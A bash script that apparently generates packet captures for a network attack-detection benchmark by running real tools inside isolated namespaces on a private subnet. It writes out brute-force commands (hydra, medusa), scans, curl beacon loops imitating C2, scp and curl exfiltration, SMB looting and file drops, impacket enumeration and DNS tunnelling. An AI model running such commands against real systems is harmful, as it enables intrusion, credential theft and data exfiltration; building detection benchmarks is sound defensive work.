#!/usr/bin/env bash
# Generates the raw attack captures of the behaviour benchmark with real tools.
#
# Everything runs inside network namespaces this script creates (prefix nmlb-): an attacker, a victim
# running real services (sshd, vsftpd, smbd, dnsmasq, an HTTP(S) server), and dummy hosts so that sweeps
# get answers, all on one bridge in the private network 10.66.0.0/24. No route leaves that network.
# tcpdump on the attacker's veth writes Ethernet captures to OUT/attacks/<id>.pcap and one JSON line per
# capture to OUT/attacks/index.jsonl (family, tool, which endpoint the device plays, addresses).
# Every loop is bounded in count, every tool runs under `timeout`.
#
# Usage: bash bench/behavior/gen-attacks.sh [--out DIR] [--only fam1,fam2] [--keep]
#   families: scan credential c2 exfil lateral dnstunnel   (default: all)
#   fresh: the "fresh tools" set (tools and techniques the model was never tuned on; ids fr-*, families
#   scan credential c2 dnstunnel exfil lateral dos), only when asked for by name; default --out then
#   /work/behavior-bench-fresh, so it never lands in the tuning benchmark's index.
#   fresh-quiet: quiet variants (ids frq-*; gen-fresh-quiet.sh), default --out /work/behavior-bench-fresh-quiet.
set -euo pipefail

OUT=""
ONLY=""
while [ $# -gt 0 ]; do
  case "$1" in
    --out) OUT="$2"; shift 2 ;;
    --only) ONLY="$2"; shift 2 ;;
    *) echo "gen-attacks: unknown option $1" >&2; exit 2 ;;
  esac
done
if [[ ",$ONLY," == *",fresh"* ]]; then
  [ "$ONLY" = fresh ] || [ "$ONLY" = fresh-quiet ] ||
    { echo "gen-attacks: --only fresh / fresh-quiet cannot be combined with other families" >&2; exit 2; }
  OUT="${OUT:-/work/behavior-bench-$ONLY}"
fi
OUT="${OUT:-/work/behavior-bench}"
HERE="$(cd "$(dirname "$0")" && pwd)"
RAW="$OUT/attacks"
W="$OUT/.gen"
PY=/usr/bin/python3
# Debian tools (impacket-* wrappers call `python3`) must not pick up another Python first on PATH.
export PATH="/usr/sbin:/usr/bin:/sbin:/bin:$PATH"
mkdir -p "$RAW" "$W"
[ "$(id -u)" = 0 ] || { echo "gen-attacks: needs root (network namespaces)" >&2; exit 2; }

NET=10.66.0
ATT_IP=$NET.10 ATT_MAC=02:66:00:00:00:10
VIC_IP=$NET.20 VIC_MAC=02:66:00:00:00:20
DUMMIES="31 32 33 34 35 36 37"
PIDS=()

ns() { local n="$1"; shift; ip netns exec "nmlb-$n" "$@"; }

cleanup() {
  set +e
  trap '' TERM INT # samba's helpers signal their process group on exit; finish cleaning up regardless
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
  sleep 0.5
  for p in "${PIDS[@]}"; do kill -9 "$p" 2>/dev/null; done
  # anything still running inside our own namespaces was started by this script
  for n in $(ip netns list 2>/dev/null | awk '/^nmlb-/{print $1}'); do
    for p in $(ip netns pids "$n" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
  done
  for n in sw att vic $(for d in $DUMMIES; do echo "d$d"; done); do ip netns del "nmlb-$n" 2>/dev/null; done
  trap - TERM INT
}
trap cleanup EXIT

# ---------- network ----------
cleanup
set -e
PIDS=()
ip netns add nmlb-sw
ns sw ip link add br0 type bridge
ns sw ip link set br0 up
ns sw ip link set lo up
host() { # name ip mac
  local n="$1" ipa="$2" mac="$3"
  ip netns add "nmlb-$n"
  ip link add "p-$n" type veth peer name eth0 netns "nmlb-$n"
  ip link set "p-$n" netns nmlb-sw
  ns sw ip link set "p-$n" master br0 up
  ns "$n" ip link set eth0 address "$mac"
  ns "$n" ip addr add "$ipa/24" dev eth0
  ns "$n" ip link set eth0 up
  ns "$n" ip link set lo up
  ns "$n" ethtool -K eth0 tx off rx off gso off tso off gro off >/dev/null 2>&1 || true
}
host att "$ATT_IP" "$ATT_MAC"
host vic "$VIC_IP" "$VIC_MAC"
for d in $DUMMIES; do host "d$d" "$NET.$d" "02:66:00:00:00:$d"; done
sleep 1

# ---------- victim services ----------
mkdir -p "$W/ssh" "$W/share" "$W/samba"/{lock,state,cache,private,pid,ncalrpc} "$W/ftp-empty" "$W/upload" /run/sshd
[ -f "$W/ssh/hostkey" ] || ssh-keygen -q -t ed25519 -f "$W/ssh/hostkey" -N ''
[ -f "$W/ssh/client" ] || ssh-keygen -q -t ed25519 -f "$W/ssh/client" -N ''
cp "$W/ssh/client.pub" "$W/ssh/authorized_keys"
cat > "$W/ssh/sshd_config" <<EOF
Port 22
ListenAddress $VIC_IP
HostKey $W/ssh/hostkey
PidFile $W/ssh/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin prohibit-password
AuthorizedKeysFile $W/ssh/authorized_keys
StrictModes no
MaxAuthTries 6
MaxStartups 200
LoginGraceTime 20
Subsystem sftp internal-sftp
EOF
ip netns exec "nmlb-vic" /usr/sbin/sshd -D -e -f "$W/ssh/sshd_config" 2>"$W/sshd.log" &
PIDS+=($!)

mkdir -p /var/run/vsftpd/empty
cat > "$W/vsftpd.conf" <<EOF
listen=YES
listen_address=$VIC_IP
listen_ipv6=NO
anonymous_enable=NO
local_enable=YES
pam_service_name=vsftpd
secure_chroot_dir=/var/run/vsftpd/empty
background=NO
max_clients=200
max_per_ip=200
delay_failed_login=0
EOF
ip netns exec "nmlb-vic" /usr/sbin/vsftpd "$W/vsftpd.conf" 2>"$W/vsftpd.log" &
PIDS+=($!)

[ -f "$W/tls.key" ] || openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=update.example.test" \
  -keyout "$W/tls.key" -out "$W/tls.crt" >/dev/null 2>&1
ip netns exec "nmlb-vic" $PY "$HERE/victim-httpd.py" "$VIC_IP" 80 &
PIDS+=($!)
ip netns exec "nmlb-vic" $PY "$HERE/victim-httpd.py" "$VIC_IP" 8080 &
PIDS+=($!)
ip netns exec "nmlb-vic" $PY "$HERE/victim-httpd.py" "$VIC_IP" 443 "$W/tls.crt" "$W/tls.key" &
PIDS+=($!)

head -c 300000 /dev/urandom > "$W/share/backup.tar"
printf 'user=admin\npass=hunter2\n' > "$W/share/config.ini"
cat > "$W/smb.conf" <<EOF
[global]
  workgroup = WORKGROUP
  server role = standalone server
  map to guest = Bad User
  guest account = nobody
  interfaces = $VIC_IP/24
  bind interfaces only = yes
  smb ports = 445 139
  disable netbios = yes
  lock directory = $W/samba/lock
  state directory = $W/samba/state
  cache directory = $W/samba/cache
  private dir = $W/samba/private
  pid directory = $W/samba/pid
  ncalrpc dir = $W/samba/ncalrpc
  log file = $W/samba/log.%m
  load printers = no
  printing = bsd
  printcap name = /dev/null
[public]
  path = $W/share
  guest ok = yes
  read only = no
  force user = root
EOF
ip netns exec "nmlb-vic" setsid /usr/sbin/smbd --foreground --no-process-group --configfile="$W/smb.conf" >"$W/smbd.log" 2>&1 &
PIDS+=($!)

ip netns exec nmlb-vic /usr/sbin/dnsmasq -k --no-resolv --no-hosts --bind-interfaces --listen-address="$VIC_IP" \
  --port=53 --address=/cdn-update.example.test/$VIC_IP --txt-record=cfg.example.test,"v=1" \
  --pid-file="$W/dnsmasq.pid" --user=root 2>"$W/dnsmasq.log" &
PIDS+=($!)
# Dummies answer something on a few ports so connect scans see open ports on more than one host.
for d in 31 33 35; do
  ip netns exec nmlb-d$d busybox httpd -f -p "$NET.$d:80" -h "$W/share" &
  PIDS+=($!)
done
sleep 2

# ---------- capture helper ----------
INDEX="$RAW/index.jsonl"
want() { [ -z "$ONLY" ] || [[ ",$ONLY," == *",$1,"* ]]; }
want_fresh() { [ "$ONLY" = fresh ] || [ "$ONLY" = fresh-quiet ]; }
# cap ID FAMILY TOOL ROLES PEER HELDOUT TIMEOUT_S CMD...
#   ROLES: which endpoint(s) the device may play when injected: attacker | victim | attacker,victim
#   PEER: lan | public  (what the other endpoint becomes when injected)
cap() {
  local id="$1" fam="$2" tool="$3" roles="$4" peer="$5" held="$6" tmo="$7"; shift 7
  local f="$RAW/$id.pcap"
  ip netns exec "nmlb-att" tcpdump -i eth0 -n -s 0 -U -w "$f" 2>/dev/null &
  local tp=$!
  sleep 1
  local t0; t0=$(date +%s.%N)
  set +e
  ns att timeout -k 5 "$tmo" "$@" >"$W/$id.out" 2>&1
  local rc=$?
  set -e
  sleep 1
  kill "$tp"; wait "$tp" 2>/dev/null || true
  local pk; pk=$(capinfos -c -M "$f" 2>/dev/null | awk -F: '/Number of packets/{gsub(/ /,"",$2);print $2}')
  local dur; dur=$(echo "$(date +%s.%N) - $t0" | bc)
  echo "{\"id\":\"$id\",\"file\":\"attacks/$id.pcap\",\"family\":\"$fam\",\"tool\":\"$tool\",\"roles\":\"$roles\",\"peer\":\"$peer\",\"heldout\":$held,\"attacker\":{\"ip\":\"$ATT_IP\",\"mac\":\"$ATT_MAC\"},\"victim\":{\"ip\":\"${CAP_VIC_IP:-$VIC_IP}\",\"mac\":\"${CAP_VIC_MAC:-$VIC_MAC}\"},\"net\":\"$NET.0/24\"${CAP_WAN:+,\"wan\":\"$CAP_WAN\"},\"rc\":$rc,\"packets\":${pk:-0},\"wallS\":$dur,\"cmd\":$(printf '%s' "$*" | $PY -c 'import json,sys;print(json.dumps(sys.stdin.read()))')}" >>"$INDEX.tmp"
  echo "gen-attacks: $id ($fam/$tool) rc=$rc packets=${pk:-0} ${dur}s" >&2
}

: >"$INDEX.tmp"
# word lists (bounded, deterministic)
seq 1 60 | awk '{printf "pass%03d\n", $1*7}' > "$W/pw60.txt"
printf 'admin\nroot\nuser\n' > "$W/users3.txt"
printf 'admin\nsupport\n' > "$W/users2.txt"
seq 1 30 | awk '{printf "Winter20%02d!\n", $1}' > "$W/pw30.txt"
printf 'correct-horse-battery\n' >> "$W/pw30.txt"

if want scan; then
  cap scan-syn-top100 scan nmap-sS attacker lan false 120 nmap -n -Pn -sS --top-ports 100 -T4 "$VIC_IP"
  cap scan-syn-top1000-sweep scan nmap-sS attacker lan false 180 nmap -n -sS --top-ports 1000 -T4 "$NET.20,31-37"
  cap scan-connect-top200 scan nmap-sT attacker lan false 120 nmap -n -Pn -sT --top-ports 200 -T3 "$VIC_IP"
  cap scan-udp-top30 scan nmap-sU attacker lan false 150 nmap -n -Pn -sU --top-ports 30 --max-retries 1 -T4 "$VIC_IP"
  cap scan-arp-sweep scan nmap-sn-arp attacker lan false 90 nmap -n -sn "$NET.0/24"
  cap scan-icmp-sweep scan nmap-sn-icmp attacker lan false 120 nmap -n -sn -PE --send-ip "$NET.0/24"
  cap scan-version-slow scan nmap-sV attacker lan true 180 nmap -n -Pn -sV --version-light -p 21,22,80,139,443,445,8080 -T2 "$VIC_IP"
  cap scan-arping-loop scan arping attacker lan true 90 bash -c "for h in \$(seq 1 60); do arping -c 1 -w 1 -I eth0 $NET.\$h >/dev/null 2>&1 || true; done"
fi

if want credential; then
  cap cred-hydra-ssh credential hydra-ssh attacker,victim public false 120 hydra -L "$W/users3.txt" -P "$W/pw60.txt" -t 4 -I -w 5 "ssh://$VIC_IP"
  cap cred-hydra-ftp credential hydra-ftp attacker,victim public false 120 hydra -L "$W/users3.txt" -P "$W/pw60.txt" -t 8 -I "ftp://$VIC_IP"
  cap cred-hydra-http credential hydra-http-get attacker,victim public false 120 hydra -L "$W/users2.txt" -P "$W/pw30.txt" -t 4 -I -f "http-get://$VIC_IP/admin"
  cap cred-medusa-ssh credential medusa-ssh attacker,victim public true 120 medusa -h "$VIC_IP" -U "$W/users2.txt" -P "$W/pw30.txt" -M ssh -t 2
  cap cred-medusa-ftp credential medusa-ftp attacker,victim public true 120 medusa -h "$VIC_IP" -U "$W/users3.txt" -P "$W/pw30.txt" -M ftp -t 4
  cap cred-medusa-http credential medusa-http attacker,victim public true 120 medusa -h "$VIC_IP" -U "$W/users2.txt" -P "$W/pw30.txt" -M http -m DIR:/admin -t 4
fi

if want c2; then
  # beacon N MIN MAX URL [curl args]: N check-ins, uniform jitter in [MIN, MAX] seconds
  cap c2-http-beacon c2 curl-http attacker public false 200 bash -c \
    "for i in \$(seq 1 40); do curl -s -m 5 -A 'Mozilla/5.0 (compatible; upd/1.2)' http://$VIC_IP/api/v1/checkin?id=7f3a\$i >/dev/null; sleep \$(awk -v s=\$RANDOM 'BEGIN{srand(s);printf \"%.2f\", 1+rand()*2.5}'); done"
  cap c2-https-beacon c2 curl-https attacker public false 200 bash -c \
    "for i in \$(seq 1 25); do curl -sk -m 5 https://$VIC_IP/cdn/pixel.gif?u=\$i >/dev/null; sleep \$(awk -v s=\$RANDOM 'BEGIN{srand(s);printf \"%.2f\", 2+rand()*4}'); done"
  cap c2-http8080-post c2 curl-post-8080 attacker public true 120 bash -c \
    "for i in \$(seq 1 60); do curl -s -m 5 -X POST --data \"r=\$(head -c 96 /dev/urandom | base64 -w0)\" http://$VIC_IP:8080/gate.php >/dev/null; sleep \$(awk -v s=\$RANDOM 'BEGIN{srand(s);printf \"%.2f\", 0.2+rand()*0.9}'); done"
fi

if want exfil; then
  head -c 24000000 /dev/urandom > "$W/loot24.bin"
  head -c 12000000 /dev/urandom > "$W/loot12.bin"
  cap exfil-scp-24mb exfil scp attacker public false 120 scp -i "$W/ssh/client" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$W/loot24.bin" "root@$VIC_IP:$W/upload/loot.bin"
  cap exfil-curl-put-https exfil curl-put-https attacker public false 120 curl -sk -m 100 -T "$W/loot24.bin" "https://$VIC_IP/upload/db.bin"
  cap exfil-curl-post-chunks exfil curl-post-http attacker public true 150 bash -c \
    "for i in \$(seq 1 12); do head -c 1000000 $W/loot12.bin | curl -s -m 20 -X POST --data-binary @- http://$VIC_IP:8080/u/\$i >/dev/null; sleep 0.5; done"
fi

if want lateral; then
  cap lat-smbclient-list lateral smbclient-L attacker lan false 60 bash -c \
    "smbclient -N -L //$VIC_IP; smbclient -N //$VIC_IP/public -c 'ls'; smbclient -N //$VIC_IP/public -c 'get config.ini /dev/null; get backup.tar /dev/null'"
  cap lat-smbclient-put lateral smbclient-put attacker lan false 60 bash -c \
    "head -c 400000 /dev/urandom > $W/drop.exe; for h in 20 31 32; do smbclient -N //$NET.\$h/public -c 'put $W/drop.exe svc.exe; ls' || true; done"
  cap lat-impacket-rpcdump lateral impacket-rpcdump attacker lan false 60 bash -c \
    "impacket-rpcdump -port 445 $VIC_IP; impacket-rpcdump -port 135 $VIC_IP || true"
  cap lat-impacket-smb lateral impacket-smbconnection attacker lan false 60 $PY -c \
    "from impacket.smbconnection import SMBConnection
for h in ['$VIC_IP', '$NET.31', '$NET.32']:
    try:
        c = SMBConnection(h, h, timeout=3); c.login('guest', '')
        for s in c.listShares(): print(s['shi1_netname'])
        for f in c.listPath('public', '*'): print(f.get_longname())
        c.getFile('public', 'backup.tar', lambda d: None); c.close()
    except Exception as e: print(h, e)"
  cap lat-impacket-samrdump lateral impacket-samrdump attacker lan true 60 impacket-samrdump -no-pass "guest@$VIC_IP"
  if command -v xrdp >/dev/null; then
    ip netns exec nmlb-vic xrdp -n -p 3389 >"$W/xrdp.log" 2>&1 &
    PIDS+=($!)
    sleep 2
  fi
  printf 'Password1\nadmin\nqwerty\nletmein\nWelcome1\n' > "$W/pw5.txt"
  cap lat-rdp-hydra lateral hydra-rdp attacker lan true 90 hydra -L "$W/users2.txt" -P "$W/pw5.txt" -t 1 -W 1 -I "rdp://$VIC_IP"
  cap lat-rdp-nmap-scripts lateral nmap-rdp-scripts attacker lan true 90 nmap -n -Pn -p 3389,445 --script rdp-enum-encryption,rdp-ntlm-info,smb-os-discovery "$VIC_IP,31-33"
fi

if want dnstunnel; then
  # iodine: a real DNS tunnel (forced to DNS with -r) to iodined on a dummy host, then data through it.
  if command -v iodined >/dev/null && [ -e /dev/net/tun ]; then
    ip netns exec nmlb-d37 iodined -f -c -P nmlb-bench-pw 10.77.0.1 t.tun.example.test >"$W/iodined.log" 2>&1 &
    PIDS+=($!)
    sleep 2
    ip netns exec nmlb-d37 timeout 200 bash -c "nc -l -k 10.77.0.1 7777 >/dev/null" &
    PIDS+=($!)
    CAP_VIC_IP=$NET.37 CAP_VIC_MAC=02:66:00:00:00:37 \
      cap dns-iodine-tunnel dnstunnel iodine attacker public true 100 bash -c \
      "iodine -f -r -P nmlb-bench-pw $NET.37 t.tun.example.test & I=\$!; sleep 6; ping -c 15 -i 0.4 10.77.0.1; head -c 120000 /dev/urandom | timeout 40 nc -N 10.77.0.1 7777; kill \$I"
  fi
  cap dns-txt-longnames dnstunnel dig-txt attacker public false 120 bash -c \
    "for i in \$(seq 1 150); do dig +short +tries=1 +time=1 @$VIC_IP TXT \$(head -c 30 /dev/urandom | base32 -w0 | tr -d = | tr A-Z a-z).\$i.t.cdn-update.example.test >/dev/null; sleep 0.1; done"
  cap dns-a-hexchunks dnstunnel dig-a attacker public false 120 bash -c \
    "for i in \$(seq 1 200); do dig +short +tries=1 +time=1 @$VIC_IP A \$(head -c 28 /dev/urandom | od -An -tx1 | tr -d ' \n').\$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \n').cdn-update.example.test >/dev/null; sleep 0.05; done"
fi

if want_fresh; then
  source "$HERE/gen-fresh.sh"
fi

# Merge: entries regenerated in this run replace older ones with the same id.
touch "$INDEX"
$PY - "$INDEX" "$INDEX.tmp" <<'PYEOF'
import json, sys
old = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
new = [json.loads(l) for l in open(sys.argv[2]) if l.strip()]
ids = {e["id"] for e in new}
with open(sys.argv[1] + ".new", "w") as f:
    for e in [e for e in old if e["id"] not in ids] + new:
        f.write(json.dumps(e) + "\n")
PYEOF
mv "$INDEX.new" "$INDEX"
rm -f "$INDEX.tmp"
echo "gen-attacks: wrote $(wc -l <"$INDEX") captures to $RAW" >&2
